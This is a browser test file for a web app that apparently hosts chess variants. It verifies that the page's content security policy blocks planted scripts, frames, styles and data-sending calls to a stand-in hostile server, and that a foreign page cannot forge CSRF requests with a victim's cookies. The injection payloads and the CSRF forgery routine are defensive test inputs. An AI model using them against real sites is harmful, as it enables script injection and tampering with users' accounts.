// Attacks that a browser alone can show: what the policy of the page blocks, and a page of somebody else in a victim's browser.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { attack } from '../server/attack.mjs';
import { newGame, noIpv6, open } from '../server/server.mjs';
import { post as ask, someone as anyone, strangersIn, victim } from './attacks.mjs';
import { prefer, secret, suite, testWhere } from './support.mjs';

// At IPv4, and at IPv6 where the machine has it.
const { server, browser } = suite({ extra: noIpv6 ? [] : ['--host', '::'] });
const someone = (who, path, options) => anyone(server, browser, who, path, options);
const post = (path, body, who) => ask(server, path, body, who);

/** Another server, whose pages are somebody's who means no good. */
class Foreign {
  asked = [];

  async open() {
    this.server = createServer((request, response) => {
      this.asked.push(`${request.method} ${request.url}`);
      const page = request.url.startsWith('/page');
      response.writeHead(200, {
        'content-type': page ? 'text/html' : 'text/javascript',
        'access-control-allow-origin': '*',
      });
      response.end(
        page ? '<!doctype html><title>Elsewhere</title><link rel="icon" href="data:,">' : 'window.broken = 1;',
      );
    });
    this.server.on('upgrade', (request, socket) => {
      this.asked.push(`SOCKET ${request.url}`);
      socket.destroy();
    });
    await new Promise((listening) => this.server.listen(0, '127.0.0.1', listening));
    this.port = this.server.address().port;
  }

  async close() {
    this.server.closeAllConnections();
    await new Promise((closed) => this.server.close(closed));
  }
}
const foreign = new Foreign();
before(() => foreign.open());
after(() => foreign.close());

/** What is planted in our page as DevTools would, and the directive that blocks it. `evil` is another server. */
const planted = [
  [
    'an inline script',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.textContent = 'window.broken = 1';
      document.body.append(script);
    },
  ],
  [
    'an inline handler',
    'script-src-attr',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.broken = 1">');
    },
  ],
  [
    'an address that is a script',
    'script-src-elem',
    () => {
      const link = Object.assign(document.createElement('a'), {
        href: 'javascript:window.broken = 1',
      });
      document.body.append(link);
      link.click();
    },
  ],
  ['a text as a script', 'script-src', () => void setTimeout('window.broken = 1')],
  [
    'a script of another server',
    'script-src-elem',
    (evil) => {
      document.body.append(
        Object.assign(document.createElement('script'), {
          src: `${evil}/script.js`,
        }),
      );
    },
  ],
  ['a module of another server', 'script-src-elem', (evil) => void import(`${evil}/module.js`).catch(() => undefined)],
  [
    'a worker of a text',
    'worker-src',
    () => {
      try {
        new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      } catch {
        // Some versions throw as well.
      }
    },
  ],
  [
    'a frame of another server',
    'frame-src',
    (evil) => {
      document.body.append(
        Object.assign(document.createElement('iframe'), {
          src: `${evil}/page`,
        }),
      );
    },
  ],
  [
    'an object',
    'object-src',
    (evil) => {
      document.body.append(
        Object.assign(document.createElement('object'), {
          data: `${evil}/page`,
        }),
      );
    },
  ],
  [
    'a form',
    'form-action',
    (evil) => {
      const form = Object.assign(document.createElement('form'), {
        action: `${evil}/form`,
        method: 'post',
      });
      document.body.append(form);
      form.submit();
    },
  ],
  [
    'a base',
    'base-uri',
    (evil) => {
      document.head.append(Object.assign(document.createElement('base'), { href: `${evil}/` }));
    },
  ],
  [
    'a picture of another server',
    'img-src',
    (evil) => {
      document.body.append(
        Object.assign(document.createElement('img'), {
          src: `${evil}/picture`,
        }),
      );
    },
  ],
  [
    'a style of another server',
    'style-src-elem',
    (evil) => {
      document.head.append(
        Object.assign(document.createElement('link'), {
          rel: 'stylesheet',
          href: `${evil}/style`,
        }),
      );
    },
  ],
  [
    'an inline style',
    'style-src-attr',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<p style="position: fixed; inset: 0; z-index: 9">Planted</p>');
    },
  ],
  [
    'a set style',
    'style-src-attr',
    () => {
      const cover = document.body.appendChild(document.createElement('p'));
      cover.setAttribute('style', 'position: fixed; inset: 0; z-index: 9');
    },
  ],
  [
    'a style element',
    'style-src-elem',
    () => {
      document.head.insertAdjacentHTML(
        'beforeend',
        '<style>strata-app, body > p { position: fixed; inset: 0 }</style>',
      );
    },
  ],
  [
    'a style element in a shadow root',
    'style-src-elem',
    () => {
      const style = document.createElement('style');
      style.textContent = ':host { position: fixed; inset: 0 }';
      document.querySelector('strata-app').shadowRoot.append(style);
    },
  ],
  ['a question to another server', 'connect-src', (evil) => void fetch(`${evil}/fetch`).catch(() => undefined)],
  ['news to another server', 'connect-src', (evil) => void navigator.sendBeacon(`${evil}/beacon`, 'x')],
  [
    'a socket to another server',
    'connect-src',
    (evil) => {
      try {
        new WebSocket(evil.replace('http', 'ws'));
      } catch {
        // Some versions throw as well.
      }
    },
  ],
];

/** In the page: what stands elsewhere than any of our styles has it, over all else. */
const placed = () =>
  [...document.querySelectorAll('strata-app, body > p')]
    .filter((element) => getComputedStyle(element).position === 'fixed')
    .map((element) => element.outerHTML);

attack('policy of the page', 'what is planted in the page does nothing', async (held) => {
  const evil = `http://localhost:${foreign.port}`;
  const person = await someone(victim, '/', { allow: [''], planted: true });
  await person.until('the page', () => window.strataTest?.state().ready);
  foreign.asked.length = 0;
  for (const [what, directive, plant] of planted) {
    await person.page.evaluate(() => (window.violations.length = 0));
    await person.page.evaluate(plant, evil);
    await person.until(
      `${what} to be blocked`,
      (expected) => window.violations.some((each) => each.startsWith(`${expected} `)),
      directive,
    );
    assert.deepEqual(await person.page.evaluate(placed), [], what);
    held(assert.equal(await person.page.evaluate(() => window.broken ?? null), null, what));
  }
  assert.deepEqual(foreign.asked, []);
  assert.equal(new URL(await person.page.evaluate(() => document.baseURI)).origin, server.address);
  assert.equal(new URL(person.page.url()).origin, server.address);
  // What was planted is there, and would be found in a page that is to be unharmed.
  const made = await strangersIn(person);
  for (const tag of ['script', 'img', 'a ', 'iframe', 'object', 'form', 'base'])
    assert.ok(
      made.some((each) => each.startsWith(`<${tag}`)),
      `${tag} in ${made}`,
    );
  await person.page.context().close();
});

test('what the policy of a page blocks is an error of the page, whatever other errors are allowed', async () => {
  const person = await browser.open(server.address, { allow: [''] });
  await person.until('the page', () => window.strataTest?.state().ready);
  await person.page.evaluate(() => document.body.setAttribute('style', 'opacity: 0'));
  await person.until('it to be blocked', () => window.violations.length > 0);
  await assert.rejects(person.close(), /The policy of the page blocked style-src-attr inline/);
  await person.page.context().close();
});

for (const view of ['slices', 'board3d'])
  testWhere(view === 'slices')(`no page of ours has anything that its policy blocks, ${view}`, async () => {
    const { game } = await post('/api/games', newGame({ variant: 'parmen' }), secret);
    const board = (person) =>
      person.until(
        'the board',
        (where) =>
          window.strataTest?.shown()?.scene.cells.some(({ name }) => window.strataTest.cellPoint(where, name)) ?? false,
        view,
      );
    const places = {
      '/': null,
      '/new/raumschach': null,
      '/rules/orthodox': null,
      '/games': null,
      '/samples': null,
      '/together': null,
      '/records': null,
      '/analysis': async (person) => {
        await person.page.getByRole('button', { name: 'Raumschach' }).click();
        await board(person);
      },
      '/editor/raumschach': async (person) => {
        await person.page.locator(`[data-do="view-${view}"]`).click();
        await board(person);
      },
      [`/game/${game}`]: board,
    };
    const person = await browser.open(server.address, { before: prefer({ primary: view }) });
    for (const [path, there] of Object.entries(places)) {
      await person.page.goto(server.address + path);
      await person.page.getByRole('heading', { level: 1 }).first().waitFor({ state: 'attached' });
      await there?.(person);
      assert.deepEqual(person.errors, [], path);
    }
    await person.close();
  });

const ofIpv6 = 'under an address of IPv6 it lets the page reach its server';
attack('policy of the page', ofIpv6, { skip: noIpv6 }, async () => {
  const own = `http://[::1]:${server.port}`;
  const { game } = await post('/api/games', newGame({ variant: 'orthodox', black: open }), victim);
  const hers = await browser.open(`${own}/game/${game}`, {
    before: (page) => page.context().addCookies([{ name: 'strata', value: victim, url: own }]),
  });
  const field = hers.page.locator('strata-invitation input');
  await field.waitFor();
  assert.equal(await field.inputValue(), `${own}/game/${game}`);
  const his = await browser.open(await field.inputValue());
  await his.page.getByRole('button', { name: 'Accept challenge' }).click();
  await hers.until('him', () => window.strataTest.state().game.black.kind === 'person');
  await hers.play('slices', 'e2-e4');
  await his.played('e2-e4', 0);
  for (const person of [hers, his]) await person.close();
});

/** In a page of somebody else: all that it can do to our server with the victim's cookies (`tried`), and what it can read. */
async function forge({ own, game, forged }) {
  const api = `${own}/api/games`;
  const body = JSON.stringify(forged);
  const [tried, seen] = [[], []];
  const tell = (what) => (value) => seen.push(`${what}: ${value}`);
  const text = (answer) => answer.text();
  const ask = (what, url, init) => {
    tried.push(what);
    return fetch(url, { credentials: 'include', ...init })
      .then(text)
      .then(tell(what), () => undefined);
  };
  for (const type of ['text/plain', 'application/json', 'application/x-www-form-urlencoded'])
    for (const mode of ['no-cors', 'cors']) {
      const init = { method: 'POST', mode, headers: { 'content-type': type } };
      await ask(`post ${type}`, api, { ...init, body });
      await ask(`name ${type}`, `${own}/api/me`, {
        ...init,
        body: '{"name":"Forged"}',
      }).catch(() => undefined);
    }
  await ask('removal', `${api}/${game}`, { method: 'DELETE' });
  for (const path of ['', `/${game}`, `/${game}/record`]) await ask(`read ${path}`, `${api}${path}`, {});
  tried.push('beacon');
  navigator.sendBeacon(api, new Blob([body], { type: 'text/plain' }));
  // A form, into a frame; its body is our message, as far as a form can say it.
  const frame = Object.assign(document.createElement('iframe'), {
    name: 'into',
  });
  document.body.append(frame);
  for (const [action, name] of [
    [api, body.slice(0, -1)],
    [`${own}/api/me`, '{"name":"Forged"'],
    [`${api}/${game}?_method=DELETE`, 'x'],
  ]) {
    const form = document.createElement('form');
    Object.assign(form, {
      action,
      method: 'post',
      enctype: 'text/plain',
      target: 'into',
    });
    form.append(
      Object.assign(document.createElement('input'), {
        name: `${name},"x":"`,
        value: '"}',
      }),
    );
    document.body.append(form);
    const loaded = new Promise((done) => frame.addEventListener('load', done, { once: true }));
    tried.push('form');
    form.submit();
    await loaded;
  }
  const loading = (what, element, attribute, url) => {
    tried.push(what);
    return new Promise((done) => {
      element.onload = () => done('loaded');
      element.onerror = () => done('refused');
      element[attribute] = url;
      document.body.append(element);
    });
  };
  for (const url of [`${api}/${game}`, `${api}/${game}?_method=DELETE`, `${own}/icon.svg`, `${api}`])
    if ((await loading('picture', document.createElement('img'), 'src', url)) === 'loaded') tell('picture')(url);
  const script = document.createElement('script');
  if ((await loading('script', script, 'src', api)) === 'loaded') tell('script')(api);
  tried.push('socket');
  await new Promise((done) => {
    const socket = new WebSocket(`${own.replace('http', 'ws')}/ws`);
    socket.onopen = () => (tell('socket')('open'), done());
    socket.onerror = done;
  });
  // Our page, and one that may be shown anywhere.
  for (const url of [own, `${window.location.origin}/page/other`])
    await loading('frame', document.createElement('iframe'), 'src', url);
  return { tried, seen };
}

for (const [what, host] of [
  ['another site', 'localhost'],
  ['another port of the same host', '127.0.0.1'],
])
  attack(
    'CSRF in a browser',
    `a page of ${what} does nothing with a victim's cookies, and reads nothing`,
    async (held) => {
      const line = ['e2-e4'];
      const { game } = await post('/api/games', newGame({ variant: 'orthodox', title: 'Hers', line }), victim);
      const listed = async () =>
        (
          await fetch(`${server.address}/api/games`, {
            headers: { authorization: `Bearer ${victim}` },
          })
        ).json();
      const before = await listed();
      const name = async () =>
        (
          await fetch(`${server.address}/api/me`, {
            headers: { authorization: `Bearer ${victim}` },
          })
        ).json();
      const called = await name();
      const hers = await someone(victim, '/', { allow: [''] });
      // That the cookie is there, and would do.
      assert.equal(
        (await hers.page.evaluate(async () => (await fetch('/api/games')).json())).games.length,
        before.games.length,
      );
      await hers.page.goto(`http://${host}:${foreign.port}/page`);
      const forged = newGame({ variant: 'orthodox', title: 'Forged', line });
      const { tried, seen } = await hers.page.evaluate(forge, {
        own: server.address,
        game,
        forged,
      });
      // What a page may not read of an answer without CORS is empty.
      const read = seen.filter((each) => !/^(post|name) [^ ]+: $/.test(each));
      assert.deepEqual(read, []);
      const frames = hers.page
        .frames()
        .slice(1)
        .map((frame) => frame.url());
      assert.equal(frames.at(-1), `http://${host}:${foreign.port}/page/other`);
      for (const url of frames) assert.ok(!url.startsWith(server.address), url);
      assert.deepEqual(await listed(), before);
      assert.deepEqual(await name(), called);
      for (const what of tried) held(assert.ok(!read.some((each) => each.startsWith(what)), what));
      await hers.page.context().close();
    },
  );
